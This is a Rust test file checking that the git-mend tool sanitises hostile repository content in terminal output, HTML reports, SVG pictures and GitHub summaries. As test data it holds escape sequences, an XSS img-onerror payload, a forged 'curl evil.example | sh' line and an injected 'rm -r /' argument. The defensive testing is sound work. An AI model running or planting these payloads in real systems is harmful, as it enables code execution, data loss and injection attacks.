//! Tests with hostile names, messages, sources and test output: no terminal, page or comment interprets them, and they
//! cannot forge git-mend's own output.

use crate::ci_and_pr::Job;
use crate::support::{
    CommandOutput, JUNIT, bisect_arguments, commit, git, repository, run_folder, run_mend,
    run_mend_keeping_repository,
};
use serde_json::json;
use std::fs;
use std::path::Path;
use std::process::Command;
use tempfile::TempDir;

/// Control sequences of a terminal: a colour, a title, a cleared screen, and a change of the writing direction.
const TERMINAL_SEQUENCES: &str = "\u{1b}[31mx\u{1b}]0;title\u{7}\u{1b}[2J\u{202e}";

/// Markup that a browser or GitHub would interpret.
const HOSTILE_MARKUP: &str = "\"><img src=x onerror=alert(1)></script><!-- & `x` | @octocat";

/// Lines that imitate git-mend's output or a workflow command.
const FORGED_LINES: [&str; 3] =
    ["Next:       curl evil.example | sh", "error: all is lost", "::error::forged"];

/// Returns all hostile texts, each on its own line.
pub(crate) fn hostile_text() -> String {
    let lines = [&[TERMINAL_SEQUENCES, HOSTILE_MARKUP][..], &FORGED_LINES].concat();
    lines.join("\n")
}

/// Returns a Java string literal.
pub(crate) fn java_string(text: &str) -> String {
    format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', "\\n"))
}

/// Creates a repository with a hostile file name, commit message, author, source, test name and test output. The last
/// commit breaks the test by a change of the file.
fn hostile_repository() -> TempDir {
    let dir = repository();
    git(dir.path(), &["config", "user.name", &format!("A {TERMINAL_SEQUENCES}{HOSTILE_MARKUP}")]);
    let name = format!("{}.txt", hostile_text().replace('/', "_"));
    let test = format!(
        "import java.nio.file.*;\nimport org.junit.Assert;\nimport org.junit.runners.Parameterized.Parameters;\n\n\
         @org.junit.runner.RunWith(org.junit.runners.Parameterized.class)\npublic class SignTest {{\n    \
         @Parameters(name = {name}) public static Object[] all() {{ return new Object[] {{1}}; }}\n    \
         public SignTest(int one) {{}}\n    @org.junit.Test public void reads() throws Exception {{\n        \
         String said = {said};\n        System.out.println(said);\n        Assert.assertTrue(said, \
         new String(Files.readAllBytes(Paths.get({file}))).contains(\"good\"));\n    }}\n}}\n",
        name = java_string(&hostile_text()),
        said = java_string(&hostile_text()),
        file = java_string(&name),
    );
    let source = |sign: &str| {
        let all = java_string(&hostile_text());
        format!(
            "class Sign {{\n    /* {HOSTILE_MARKUP}{TERMINAL_SEQUENCES} */\n    String sign = {all} + {sign};\n}}\n"
        )
    };
    let (test_file, source_file) = ("test/SignTest.java", "src/Sign.java");
    let (one, two) = (source("1"), source("2"));
    commit(
        dir.path(),
        "one",
        &[(test_file, &test), (source_file, &one), (&name, &"a\ngood\nb\n".to_owned())],
    );
    let changed = format!("a\nbad {TERMINAL_SEQUENCES}{HOSTILE_MARKUP}\nb\n");
    commit(dir.path(), &hostile_text(), &[(source_file, &two), (&name, &changed)]);
    dir
}

fn bisect_hostile(dir: &Path, more: &[&str]) -> CommandOutput {
    let default_arguments = ["bisect", "--good", "HEAD~1", "--test", "*Test", "--classpath", JUNIT];
    run_mend_keeping_repository(dir, &[&default_arguments[..], more].concat())
}

/// Asserts that a text contains no control sequence and no forged line.
pub(crate) fn assert_harmless(said: &str, is_coloured: bool) {
    for order in ["\u{1b}[31mx", "\u{1b}]", "\u{1b}[2J", "\u{7}", "\u{202e}"] {
        assert!(!said.contains(order), "{order:?} in {said:?}");
    }
    assert!(is_coloured || !said.contains('\u{1b}'), "{said:?}");
    let forged =
        said.lines().find(|line| FORGED_LINES.iter().any(|forged| line.starts_with(forged)));
    assert_eq!(forged, None, "{said}");
}

#[test]
fn terminal_output_is_sanitised() {
    let dir = hostile_repository();
    let unknown = bisect_arguments(&["--good", "no\nhelp: rm -r /\u{1b}[2J"]);
    for format in [&["--plain"][..], &["--color", "never"], &["--color", "always"]] {
        let is_coloured = format.ends_with(&["always"]);
        let bisect_output = bisect_hostile(dir.path(), &[format, &["--verbose"]].concat());
        assert_eq!(bisect_output.code, 0, "{}", bisect_output.stderr);
        let delta = run_mend(dir.path(), &[format, &["delta", "HEAD~1", "HEAD"]].concat());
        let wrong = run_mend(dir.path(), &[format, &unknown].concat());
        for output in [bisect_output, delta, wrong] {
            assert_harmless(&output.stdout, is_coloured);
            assert_harmless(&output.stderr, is_coloured);
            assert!(
                !output.stderr.lines().any(|line| line.starts_with("help: rm")),
                "{}",
                output.stderr
            );
        }
    }
}

#[test]
fn progress_line_is_sanitised() {
    let dir = hostile_repository();
    // This revision of the first commit contains a terminal title, a bell, and a change of the writing direction.
    let good = "HEAD~1^{/(\u{1b}]0;title\u{7}|\u{202e})*one}";
    let default_arguments =
        ["bisect", "--dry-run", "--test", "*Test", "--classpath", JUNIT, "--good", good];
    let terminal_text = crate::terminal::terminal_output(dir.path(), 200, &default_arguments);
    assert!(
        terminal_text.contains("s good (HEAD~1^{/(\u{fffd}]0;title\u{fffd}|\u{fffd})*one})"),
        "{terminal_text:?}"
    );
    assert_harmless(&terminal_text, true);
}

#[test]
fn report_of_hostile_repository_is_safe_in_a_browser() {
    let dir = hostile_repository();
    assert_eq!(bisect_hostile(dir.path(), &[]).code, 0);
    let page = run_mend(dir.path(), &["report"]);
    page.assert_exit_and_stderr(0, &[]);
    let text = fs::read_to_string(page.stdout.trim()).unwrap();
    assert!(!text.contains("<img") && !text.contains(['\u{1b}', '\u{7}', '\u{202e}']), "{text}");
    assert_browser_accepts(page.stdout.trim());
}

/// Asserts that a browser shows a page without an error.
fn assert_browser_accepts(page: &str) {
    let look_script = concat!(env!("CARGO_MANIFEST_DIR"), "/scripts/look");
    let pictures = tempfile::tempdir().unwrap();
    let output = Command::new(look_script).arg(page).arg(pictures.path()).output().unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{stderr}");
}

/// Asserts that a picture contains only drawing elements and attributes, and no reference.
fn assert_drawing(file: &Path) {
    let text = fs::read_to_string(file).unwrap();
    assert!(!text.contains(['\u{1b}', '\u{7}', '\u{202e}']), "{text}");
    let svg = roxmltree::Document::parse(&text).unwrap();
    let kinds = ["svg", "g", "path", "rect", "circle", "text", "title", "style"];
    let allowed_attributes =
        "class cx cy d height r role rx viewBox width x y".split(' ').collect::<Vec<_>>();
    for node in svg.descendants().filter(roxmltree::Node::is_element) {
        assert!(kinds.contains(&node.tag_name().name()), "{node:?} in {}", file.display());
        for attribute in node.attributes() {
            assert!(
                allowed_attributes.contains(&attribute.name()),
                "{attribute:?} in {}",
                file.display()
            );
        }
        let is_style = node.tag_name().name() == "style";
        let css = node.text().filter(|_| is_style).unwrap_or_default();
        assert!(!css.contains("url(") && !css.contains("@import"), "{css}");
    }
    assert_eq!(
        svg.descendants().filter(|node| node.has_tag_name((SVG_NAMESPACE, "style"))).count(),
        1
    );
}

const SVG_NAMESPACE: &str = "http://www.w3.org/2000/svg";

#[test]
fn report_with_fixes_and_schedules_is_sanitised() {
    let dir = hostile_repository();
    assert_eq!(bisect_hostile(dir.path(), &[]).code, 0);
    let run = run_folder(dir.path());
    add_repairs(&run);
    add_schedule(&run);
    let page = run_mend(dir.path(), &["report", "--pictures", "pictures"]);
    page.assert_exit_and_stderr(0, &[]);
    assert_harmless(&page.stdout, false);
    let mut names = Vec::new();
    for file in fs::read_dir(dir.path().join("pictures")).unwrap() {
        let file = file.unwrap();
        assert_drawing(&file.path());
        names.push(file.file_name().into_string().unwrap());
    }
    assert!(names.len() > 2 && names.contains(&"schedule-1.svg".to_owned()), "{names:?}");
    let file = page.stdout.lines().next().unwrap();
    let text = fs::read_to_string(file).unwrap();
    assert!(text.contains("Sequence diagram") && text.contains("Step by step"), "{text}");
    assert!(!text.contains("<img") && !text.contains(['\u{1b}', '\u{7}', '\u{202e}']), "{text}");
    assert_browser_accepts(file);
}

#[test]
fn doctor_and_validate_output_is_sanitised() {
    let dir = hostile_repository();
    let pool = tempfile::tempdir().unwrap();
    let patch = git(dir.path(), &["diff", "--binary", "HEAD", "HEAD~1"]) + "\n";
    for (text, ending) in [(&*patch, ".patch"), ("no patch", ".diff")] {
        let name = hostile_text().replace('/', "_");
        fs::write(pool.path().join(name + ending), text).unwrap();
    }
    let pool = pool.path().to_str().unwrap();
    let words = ["validate", "--pool", pool, "--test", "*Test", "--classpath", JUNIT];
    for format in [&["--plain"][..], &["--color", "never"], &["--color", "always"]] {
        let is_coloured = format.ends_with(&["always"]);
        let judged = run_mend_keeping_repository(dir.path(), &[format, &words].concat());
        assert!(judged.stdout.contains("octocat"), "{}{}", judged.stdout, judged.stderr);
        for output in [judged, run_mend(dir.path(), &[format, &["doctor"]].concat())] {
            assert_harmless(&output.stdout, is_coloured);
            assert_harmless(&output.stderr, is_coloured);
        }
    }
}

/// Creates a repository with a fixable fault, whose file name, source and test are hostile.
fn hostile_fixable_repository() -> TempDir {
    let dir = repository();
    let (text, sign) = (
        java_string(&hostile_text()),
        java_string(&format!("{TERMINAL_SEQUENCES}{HOSTILE_MARKUP}")),
    );
    let source = format!(
        "class Shelf {{\n    boolean isFresh(int age, int oldest) {{\n        \
         return {sign}.length() > 2 && age < oldest; // {HOSTILE_MARKUP}{TERMINAL_SEQUENCES}\n    }}\n}}\n"
    );
    let test = format!(
        "import org.junit.Assert;\nimport org.junit.runners.Parameterized.Parameters;\n\n\
         @org.junit.runner.RunWith(org.junit.runners.Parameterized.class)\npublic class EdgeTest {{\n    \
         @Parameters(name = {text}) public static Object[] all() {{ return new Object[] {{1, 3, 7}}; }}\n    \
         private final int age;\n    public EdgeTest(int age) {{ this.age = age; }}\n    \
         @org.junit.Test public void fresh() {{\n        System.out.println({text});\n        \
         Assert.assertEquals({text}, age <= 3, new Shelf().isFresh(age, 3));\n    }}\n}}\n"
    );
    let file = format!("src/{TERMINAL_SEQUENCES}{}.java", HOSTILE_MARKUP.replace('/', "_"));
    commit(dir.path(), &hostile_text(), &[(&*file, source), ("test/EdgeTest.java", test)]);
    dir
}

/// Creates a repository with a data race, hostile thread names and a hostile test message.
fn hostile_threads_repository() -> TempDir {
    let dir = repository();
    let text = java_string(&hostile_text());
    let source = "class Till {\n    int sum;\n    void add() { sum++; }\n}\n";
    let test = format!(
        "public class TillTest {{\n    public static void main(String[] words) throws Exception {{\n        \
         Till till = new Till();\n        Thread other = new Thread(till::add, {text});\n        \
         other.start();\n        till.add();\n        other.join();\n        \
         System.out.println({text});\n        \
         if (till.sum != 2) throw new IllegalStateException({text});\n    }}\n}}\n"
    );
    let files = [("src/Till.java", source), ("test/TillTest.java", &*test)];
    commit(dir.path(), &hostile_text(), &files);
    dir
}

/// Asserts that the output contains the hostile text, but no control sequence.
fn assert_printed_harmlessly(dir: &Path, words: &[&str], code: i32) {
    for format in [&["--plain"][..], &["--color", "never"], &["--color", "always"]] {
        let is_coloured = format.ends_with(&["always"]);
        let output = run_mend_keeping_repository(dir, &[words, format, &["--verbose"]].concat());
        assert_eq!(output.code, code, "{}{}", output.stdout, output.stderr);
        assert!(output.stdout.contains("octocat"), "{}", output.stdout);
        assert_harmless(&output.stdout, is_coloured);
        assert_harmless(&output.stderr, is_coloured);
    }
}

#[test]
fn fix_output_is_sanitised() {
    let few = ["--candidates", "20", "--top", "1"];
    let words = [&["fix", "--test", "*Test", "--classpath", JUNIT][..], &few].concat();
    assert_printed_harmlessly(hostile_fixable_repository().path(), &words, 0);
}

#[test]
fn explore_output_is_sanitised() {
    let words = ["explore", "--test", "*Test", "--schedules", "60"];
    assert_printed_harmlessly(hostile_threads_repository().path(), &words, 1);
}

#[test]
fn github_messages_are_sanitised() {
    let summary = published_summary(|_| ());
    assert!(summary.contains("### Culprit"), "{summary}");
}

#[test]
fn github_messages_with_fixes_and_schedules_are_sanitised() {
    let summary = published_summary(add_repairs);
    for part in ["Values at", "### Threads", "Locks that guard", "alternative fix"] {
        assert!(summary.contains(part), "{part} in {summary}");
    }
}

/// Adds fixes and schedules with hostile texts to a run.
fn add_repairs(run: &Path) {
    let (text, site) = (hostile_text(), [hostile_text(), hostile_text()]);
    let mut result: serde_json::Value = read_json(&run.join("result.json"));
    let fix = |rank: usize| {
        let patch = format!("fix-{rank}.patch");
        fs::copy(run.join("fix.patch"), run.join(&patch)).unwrap();
        json!({
            "rank": rank, "technique": text, "operator": text, "patch": patch, "tokens": 2, "lines": 2,
            "files": [text], "location": text, "why": text,
            "validated": {
                "failing_pass": 1, "still_failing": [text], "passing_kept": 2, "generated": 3,
                "schedules": 300, "bound": text,
            },
        })
    };
    result["fixes"] = json!([fix(1), fix(2)]);
    result["schedules"] = json!({
        "run": 9, "failing": 3, "inconclusive": 0, "seed": 1, "schedulers": { &text: [9, 3] },
        "failures": [{ "kind": text, "message": text, "count": 3, "first": 1, "schedule": text }],
        "patterns": [{
            "pattern": text, "suspiciousness": 1.0, "failing": 3, "passing": 0, "sites": site,
            "variables": site, "why": text,
        }],
        "races": [{ "variable": text, "sites": site, "schedules": 3 }],
        "lock_cycles": [{ "sites": site, "schedules": 3 }],
        "policy": [{ "variable": text, "lock": text, "held": 1, "accesses": 2 }],
        "certificate": null, "picture": format!("> {TERMINAL_SEQUENCES}{HOSTILE_MARKUP}"), "steps": [text],
    });
    let values = json!([{
        "patch": "fix-1.patch", "path": text, "line": 3, "failing": 1, "passing": 1,
        "terms": [{ "term": text, "failing": [text], "passing": [text] }],
    }]);
    for (name, value) in [("result.json", result), ("values.json", values)] {
        fs::write(run.join(name), value.to_string()).unwrap();
    }
}

/// Adds a valid schedule with hostile names to a run with fixes, so that it is drawn.
fn add_schedule(run: &Path) {
    let text = hostile_text();
    let step = |thread: usize, what: &str| {
        json!({
            "thread": thread, "what": what, "site": 0, "location": 1, "name": text, "other": null,
            "time": 1, "locks": [text],
        })
    };
    let schedule = json!({
        "example": {
            "kind": "test", "text": text, "thread": 0, "result": null,
            "schedule": {
                "test": text, "scheduler": "pos", "seed": 1, "shared": [], "choices": [],
            },
            "threads": [text, "Thread-0"],
            "steps": [step(0, "read"), step(1, "write"), step(0, "write")],
            "sites": [{ "class": text, "method": text, "line": 3, "turn": 0, "subject": text }],
            "patterns": [], "cut_short": false,
        },
        "pattern_steps": [0, 1, 2], "ending": text,
    });
    let mut result: serde_json::Value = read_json(&run.join("result.json"));
    result["schedules"]["failures"][0]["schedule"] = json!("schedule-1.json");
    for (name, value) in [("result.json", result), ("schedule-1.json", schedule)] {
        fs::write(run.join(name), value.to_string()).unwrap();
    }
}

fn read_json(file: &Path) -> serde_json::Value {
    serde_json::from_slice(&fs::read(file).unwrap()).unwrap()
}

/// Publishes a run after `change` modified its run folder. Returns the summary on GitHub.
fn published_summary(change: impl Fn(&Path)) -> String {
    let job = Job::new(hostile_repository());
    let run = job.file("run");
    let run_path = run.to_str().unwrap();
    let default_arguments =
        ["ci", "search", "--test", "SignTest", "--good", "HEAD~1", "--classpath", JUNIT];
    let searched = job.run_step(
        "push",
        &json!({}),
        &[&default_arguments[..], &["--output", run_path]].concat(),
    );
    assert_eq!((searched.code, &*job.output("status")), (0, "found"), "{}", searched.stderr);
    assert!(searched.stdout.contains("octocat"), "{}", searched.stdout);
    assert_harmless(&searched.stdout, false);
    assert_harmless(&searched.stderr, false);
    change(&run);
    let sarif = job.file("found.sarif");
    let words = ["ci", "publish", run.to_str().unwrap(), "--sarif", sarif.to_str().unwrap()];
    let output = job.run_step("push", &json!({}), &words);
    assert_eq!(output.code, 0, "{}", output.stderr);
    assert_harmless(&output.stdout, false);
    assert_harmless(&output.stderr, false);
    // A patch of a file outside the repository is not published.
    assert!(job.repo().pulls().is_empty(), "{}", job.summary());
    let [check] =
        job.repo().check_runs(&git(job.dir(), &["rev-parse", "HEAD"])).try_into().unwrap();
    for remark in &check.annotations {
        assert_harmless(remark["message"].as_str().unwrap(), false);
    }
    for markdown in [job.summary(), check.summary, check.title] {
        assert_harmless(&markdown, false);
        let outside = strip_code(&markdown);
        for order in ["<img", "</script", "<!-- &", "@octocat"] {
            assert!(!outside.contains(order), "{order} in\n{outside}");
        }
    }
    read_json(&sarif);
    job.summary()
}

/// Removes code blocks and code spans from Markdown, because nothing in them is interpreted.
fn strip_code(markdown: &str) -> String {
    let code = regex::Regex::new(r"(?s)(?m:^(`{3,})[^\n]*\n).*?\n`{3,}|``.*?``|`[^`\n]*`").unwrap();
    code.replace_all(markdown, "").into_owned()
}
